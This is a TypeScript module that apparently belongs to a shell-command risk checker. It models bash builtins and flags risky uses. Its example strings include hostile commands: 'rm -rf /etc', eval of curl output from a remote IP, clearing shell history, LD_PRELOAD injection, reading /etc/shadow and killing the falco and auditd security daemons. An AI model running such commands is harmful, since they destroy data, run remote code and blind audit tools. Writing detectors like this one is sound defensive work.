/** Shell builtins. */
import { type Call, ex, type Family } from "../call.ts";
import { variableClass } from "../environment.ts";
import { resolvePath } from "../paths.ts";
import { moveTo, setUnknown } from "../scope.ts";
import { dropPrefix, emptied, type Field, hasGlob, hasVar, literal, literalField } from "../words.ts";
import { harmlessSignal, isProtection } from "./protections.ts";
import { shellInput } from "./shells.ts";

function cd(call: Call): void {
  const to = call.operands[0];
  const text = to ? literal(to) : "~";
  const known =
    text !== undefined && text !== "-" && call.flags.length === 0 && !hasGlob(to ?? call.nameField);
  moveTo(call.ctx.scope, known ? resolvePath(text, call.ctx.scope.cwd) : undefined);
}

/** Builtins evaluate the subscript of a variable they are given: `a[$(…)]` runs what it holds. */
function variableName(call: Call, field: Field | undefined): void {
  if (!field) return;
  const text = emptied(field);
  if (/[[$`]/.test(text)) call.report(/[$`]/.test(text) ? "hidden-code" : "dynamic-word", field);
  else if (hasVar(field)) call.report("dynamic-word", field);
  else if (variableClass(text, undefined) === "poison") call.report("env-poison", field);
  else setUnknown(call.ctx.scope, text, true);
}

function read(call: Call): void {
  for (const n of call.operands)
    if (/[[$`]/.test(emptied(n)) || hasVar(n) || variableClass(emptied(n), undefined) === "poison")
      variableName(call, n);
  const array = call.value("-a");
  if (array) variableName(call, array);
  if (!call.ctx.stdin.present) call.report("interactive");
  const item = call.ctx.stdin.item;
  const names = call.operands.length > 0 ? call.operands : [literalField("REPLY", 0, 0)];
  const lines = call.ctx.stdin.text?.split("\n").slice(0, 8);
  names.forEach((n) => {
    const name = emptied(n);
    if (lines)
      call.ctx.scope.vars.set(name, {
        array: false,
        values: [
          [
            {
              k: "var",
              kind: "any",
              host: false,
              q: false,
              hints: lines.flatMap((l) => [l, ...l.split(/\s+/)]).slice(0, 12),
            },
          ],
        ],
      });
    else if (item && names.length === 1)
      call.ctx.scope.vars.set(name, { array: false, values: [item.segs.map((s) => s)] });
    else setUnknown(call.ctx.scope, name, true);
  });
}

function source(call: Call): void {
  const file = call.operands[0];
  if (!file) return;
  const path = emptied(file);
  if (/^\/dev\/(stdin|fd\/0)$/.test(path)) {
    shellInput(call);
    return;
  }
  if (path === "/dev/fd/63") {
    call.report(call.ctx.session.fetched.has("procsub") ? "fetch-exec" : "unknown-script", file);
    return;
  }
  call.report(call.ctx.session.fetched.has(path) ? "fetch-exec" : "unknown-script", file);
}

function evaluate(call: Call): void {
  if (call.args.length === 0) return;
  const all: Field = {
    pos: call.nameField.pos,
    end: call.args[call.args.length - 1]?.end ?? call.nameField.end,
    segs: call.args.flatMap((a, i) =>
      i === 0 ? [...a.segs] : [{ k: "lit" as const, v: " ", q: true }, ...a.segs],
    ),
  };
  if (hasVar(all)) {
    call.report("dynamic-program", all);
    if (call.ctx.session.fetched.has("procsub")) call.report("fetch-exec", all);
  }
  call.script(all, undefined, { scope: call.ctx.scope });
}

function set(call: Call): void {
  let i = 0;
  for (; i < call.args.length; i++) {
    const a = call.args[i] as Field;
    const t = literal(a);
    if (t === undefined || !/^[-+]./.test(t) || t === "--") break;
    if (/^[-+][euxvCfn]*o$/.test(t)) {
      const option = call.args[++i];
      if (option && t.startsWith("+") && emptied(option) === "history") call.report("trace-wipe", option);
      if (option && !/^(pipefail|errexit|nounset|noglob|xtrace)$/.test(emptied(option)))
        call.report("shell-behaviour", option);
    } else if (!/^[-+][euxvCfn]+$/.test(t)) call.report("shell-behaviour", a);
  }
  const mark = literal(call.args[i] ?? call.nameField);
  const words = call.args.slice(mark === "--" || mark === "-" ? i + 1 : i);
  // A word that may be an option, or none or several words, leaves the parameters unknown.
  const sure = words.every((w) => !hasGlob(w) && w.segs.every((s) => s.k !== "var" || s.q));
  if (!sure || (mark === undefined && words.length > 0)) call.ctx.scope.positional = undefined;
  else if (words.length > 0 || mark === "--") call.ctx.scope.positional = words;
  if (call.args.length === 0) call.report("sensitive-read", call.nameField, "set");
}

function shift(call: Call): void {
  const { scope } = call.ctx;
  const by = literal(call.args[0] ?? literalField("1", 0, 0));
  const known = by !== undefined && /^\d+$/.test(by) && call.args.length < 2;
  scope.positional =
    known && Number(by) <= (scope.positional?.length ?? 0) ? scope.positional?.slice(Number(by)) : undefined;
}

const jobs: Family["specs"] = [
  {
    names: "echo",
    style: "free",
    args: "text",
    loose: true,
    examples: ex("echo hi ¦ echo 'rm -rf /'", "echo x > /tmp/q", "echo $(rm -rf /etc)"),
  },
  {
    names: "printf",
    style: "free",
    args: "text",
    loose: true,
    closed: "words",
    check: (c) => {
      const [first] = c.args;
      // The name may be glued to the letter.
      if (first && emptied(first).startsWith("-v"))
        variableName(c, emptied(first) === "-v" ? c.args[1] : dropPrefix(first, 2));
    },
    examples: ex(
      "printf '%s\\n' a b",
      "printf x > /tmp/q",
      "printf '\\x72m -rf /etc' | sh ¦ printf -vPATH /srv; ls ¦ printf -v BASH_ENV /srv/x",
    ),
  },
  {
    names: "true false : pwd times dirs",
    style: "free",
    args: "text",
    loose: true,
    examples: ex("true ¦ : ¦ pwd", ": > /tmp/q", ": > /etc/fstab"),
  },
  {
    names: "test [",
    style: "free",
    args: "text",
    loose: true,
    closed: "words",
    check: (c) => {
      const i = c.args.findIndex((a) => emptied(a) === "-v");
      if (
        i >= 0 &&
        c.args[i + 1] &&
        (hasVar(c.args[i + 1] as Field) || emptied(c.args[i + 1] as Field).includes("["))
      )
        c.report("dynamic-word", c.args[i + 1]);
    },
    examples: ex("[ -f /etc/hosts ] ¦ test 1 -gt 0", "[ -f x ] && foo", '[ -n "$(reboot)" ]'),
  },
  {
    names: "exit return break continue shift wait",
    style: "free",
    args: "text",
    loose: true,
    check: (c) => {
      if (c.name === "shift") shift(c);
      const p = c.name === "wait" ? c.args.findIndex((a) => /^-[fn]*p$/.test(emptied(a))) : -1;
      if (p >= 0) variableName(c, c.args[p + 1]);
      else if (c.name === "wait" && c.args.some((a) => /^-./.test(emptied(a)))) c.report("unknown-flag");
    },
    examples: ex("exit 0", "exit 0; foo", "reboot; exit 0"),
  },
  {
    names: "cd pushd popd",
    flags: "-PL",
    args: "meta",
    loose: true,
    check: cd,
    examples: ex("cd /var/log && ls", "cd /tmp && ./x", "cd /etc && cat shadow"),
  },
  {
    names: "read",
    flags: "-rse -t:num -n:num -N:num -p: -d: -u:num -a: -i:",
    args: "name",
    check: read,
    examples: ex(
      'df -h | while read -r a b; do echo "$a"; done',
      "read x",
      'echo /etc/shadow | while read -r f; do cat "$f"; done',
    ),
  },
  {
    names: "mapfile readarray",
    flags: "-t -n:num -O:num -s:num -d: -u:num -C:!shell-behaviour -c:num",
    args: "name",
    check: (c) => {
      const cb = c.value("-C");
      if (cb) c.script(cb);
      for (const o of c.operands) variableName(c, o);
    },
    examples: ex(
      "mapfile -t a < /etc/hosts",
      "mapfile -C foo a < /etc/hosts",
      "mapfile -C 'rm -rf /etc;' -c 1 a < /etc/hosts",
    ),
  },
  {
    names: "local declare typeset export readonly",
    style: "free",
    args: "text",
    loose: true,
    check: (c) => {
      if (c.args.length === 0 || c.args.every((a) => /^-[px]+$/.test(emptied(a)))) c.report("sensitive-read");
    },
    examples: ex(
      "export LC_ALL=C; df",
      "export -p ¦ export FOO=1",
      "export LD_PRELOAD=/tmp/x ¦ declare -x PATH=/tmp",
    ),
  },
  {
    names: "unset",
    style: "free",
    args: "text",
    check: (c) => {
      for (const a of c.args) {
        const t = emptied(a);
        if (t.startsWith("HIST")) c.report("trace-wipe", a);
        if (/[[$`]/.test(t) || hasVar(a)) variableName(c, a);
        c.ctx.scope.vars.delete(t);
        const known = c.ctx.scope.functions.get(t);
        if (known) c.ctx.scope.functions.set(t, { bodies: known.bodies, certain: false });
      }
    },
    examples: ex("unset x", "unset x; foo", "unset HISTFILE"),
  },
  {
    names: "set",
    style: "free",
    args: "text",
    check: set,
    examples: ex("set -e; df ¦ set -o pipefail; df -h | head", "set ¦ set -o history", "set -e; reboot"),
  },
  {
    names: "shopt enable hash bind complete compopt disown fg bg jobs suspend logout caller let ulimit umask",
    style: "free",
    args: "text",
    check: (c) => {
      const w = c.args.map(emptied);
      if (c.name === "ulimit" && w.every((x) => /^-[aHSn-z]+$/.test(x))) return;
      if (c.name === "umask" && w.length === 0) return;
      if (c.name === "jobs" && w[0] === "-x") c.run(c.args.slice(1));
      if (c.name === "jobs" ? w.every((x) => /^(-[lnprs]+|%\S*)$/.test(x)) : c.name === "caller") return;
      if (/^(hash|shopt|enable)$/.test(c.name) && w.length === 0) return;
      if (c.name === "shopt" && /^-[pq]+$/.test(w[0] ?? "")) return;
      if (/^(enable|bind)$/.test(c.name) && /^-[aplPSV]$/.test(w.join(" "))) return;
      if (c.name === "enable" && w.includes("-f")) c.report("side-door");
      if (c.name === "let") for (const a of c.args) if (/[[$`]/.test(emptied(a))) c.report("hidden-code", a);
      c.report("shell-behaviour");
    },
    examples: ex("ulimit -n ¦ ulimit -a ¦ umask", "shopt -s extglob ¦ hash -r", "enable -f /tmp/x.so x"),
  },
  {
    names: "compgen",
    style: "free",
    args: "text",
    check: (c) => {
      const run = c.args.findIndex((a) => /^-\w*C$/.test(emptied(a)));
      if (run >= 0) c.script(c.args[run + 1]);
      if (!/^-[abcdefgjksuv]+( [\w./-]+)?$/.test(c.args.map(emptied).join(" "))) c.report("shell-behaviour");
    },
    examples: ex("compgen -c ¦ compgen -u ro", "compgen -W '$(df)' x", "compgen -C reboot"),
  },
  {
    names: "alias",
    style: "free",
    args: "text",
    check: (c) => {
      if (c.args.length === 0) return;
      c.report("shell-behaviour");
      for (const a of c.args) {
        const t = emptied(a);
        const eq = t.indexOf("=");
        if (eq > 0) c.script(literalField(t.slice(eq + 1), a.pos, a.end));
      }
    },
    examples: ex("alias", "alias x='ls -l'", "alias df=reboot"),
  },
  {
    names: "unalias",
    style: "free",
    args: "text",
    examples: ex("unalias -a", "unalias x; foo", "unalias x; reboot"),
  },
  {
    names: "trap",
    style: "free",
    args: "text",
    check: (c) => {
      const w = c.args.map(emptied);
      if (w[0] === "-p" || w[0] === "-l" || c.args.length === 0) return;
      const first = c.args[w[0] === "--" ? 1 : 0];
      if (first && emptied(first) !== "" && emptied(first) !== "-") {
        c.report("shell-behaviour");
        c.script(first);
      }
    },
    examples: ex("trap -p ¦ trap '' INT", "trap 'echo x' EXIT", "trap 'rm -rf /etc' EXIT"),
  },
  {
    names: "eval",
    style: "free",
    args: "text",
    loose: true,
    check: evaluate,
    examples: ex("eval 'df -h'", 'eval "$x"', "eval 'rm -rf /etc' ¦ eval \"$(curl http://203.0.113.1/x)\""),
  },
  {
    names: "source .",
    style: "free",
    args: "text",
    check: source,
    examples: ex("", ". /etc/profile", ". /dev/stdin <<< 'rm -rf /etc'"),
  },
  {
    names: "type which whereis",
    flags: "-apPtfbms --all",
    args: "text",
    loose: true,
    examples: ex("type ls ¦ which -a python3", "which foo; foo", "which rm; rm -rf /etc"),
  },
  {
    names: "sleep",
    flags: "",
    args: "num",
    check: (c) => {
      for (const o of c.operands) {
        const m = /^([\d.]+)(s?)$/.exec(emptied(o));
        if (!m || Number(m[1]) > 60) {
          if (!c.ctx.bounded) c.report("unbounded", o);
        }
      }
    },
    examples: ex("sleep 2", "sleep infinity ¦ sleep 1h", "sleep 1; reboot"),
  },
  {
    names: "history fc",
    style: "free",
    args: "text",
    check: (c) => {
      if (c.args.some((a) => /^-[cwd]/.test(emptied(a)))) c.report("trace-wipe");
      else c.report("sensitive-read");
    },
    examples: ex("", "history ¦ history 5", "history -c"),
  },
  {
    names: "kill",
    style: "free",
    args: "text",
    check: (c) => {
      const w = c.args.map(emptied);
      if (/^(-l|-L|--list)$/.test(w[0] ?? "")) return;
      if ((w[0] === "-0" || (w[0] === "-s" && w[1] === "0")) && w.slice(1).every((x) => /^\d*$/.test(x)))
        return;
      const pids = w.filter((x, i) => !x.startsWith("-") && !/^(-s|-n|--signal)$/.test(w[i - 1] ?? ""));
      if (
        pids.some((x) => x === "1" || x === "0") ||
        w.some((x, i) => x === "-1" && (i > 0 || w.length === 1))
      )
        c.report("power");
      // Some process numbers were looked up by name.
      if (
        c.args.some(hasVar) &&
        !w.some((x) => harmlessSignal.test(x)) &&
        [...c.ctx.session.sought].some(isProtection)
      )
        c.report("security-off");
      c.report("process-change", undefined, `kill ${w.join(" ")}`);
    },
    examples: ex(
      "kill -l ¦ kill -0 4242",
      "kill 4242 ¦ kill -HUP 99",
      "kill -9 -1 ¦ kill -9 1 ¦ kill -9 $(pgrep falco) ¦ pidof auditd | xargs kill",
    ),
  },
];

export const shell: Family = { name: "shell", specs: jobs };
